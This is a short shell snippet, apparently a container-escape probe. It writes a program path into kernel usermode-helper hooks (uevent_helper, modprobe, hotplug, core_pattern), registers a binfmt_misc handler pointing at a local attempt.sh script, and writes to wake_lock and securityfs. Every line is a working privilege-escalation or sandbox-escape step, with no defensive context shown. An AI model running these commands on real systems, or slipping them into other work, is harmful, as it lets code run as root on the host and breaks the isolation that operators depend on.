# Names a program of ours wherever the kernel keeps one.
for file in /sys/kernel/uevent_helper /proc/sys/kernel/modprobe /proc/sys/kernel/hotplug /proc/sys/kernel/core_pattern; do echo "/$MARK" >$file; done
echo ":$MARK:M::XX::$PWD/attempt.sh:" >/proc/sys/fs/binfmt_misc/register
echo "$MARK" >/sys/power/wake_lock; ls /sys/kernel/security && touch "/sys/kernel/security/$MARK"
